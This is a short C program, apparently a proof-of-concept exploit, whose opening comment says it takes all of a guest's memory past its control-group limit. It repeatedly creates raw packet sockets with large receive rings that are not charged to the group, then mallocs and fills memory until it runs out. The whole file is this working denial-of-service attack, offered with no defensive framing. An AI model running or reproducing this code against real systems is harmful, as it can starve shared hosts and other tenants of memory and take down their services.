/* Takes all memory of a guest, past the limit of its control group: the rings of packet sockets are charged to nobody. */
#include <linux/if_packet.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

int main(void)
{
    for (unsigned block = 1 << 22; block >= 4096; block /= 4)
        for (;;) {
            struct tpacket_req ring = {
                .tp_block_size = block, .tp_block_nr = 4, .tp_frame_size = 4096, .tp_frame_nr = block / 4096 * 4};
            int held = socket(AF_PACKET, SOCK_RAW, 0);
            if (held < 0 || setsockopt(held, SOL_PACKET, PACKET_RX_RING, &ring, sizeof ring) != 0)
                break;
        }
    for (char *memory; (memory = malloc(1 << 16));)
        memset(memory, 1, 1 << 16);
    return 0;
}
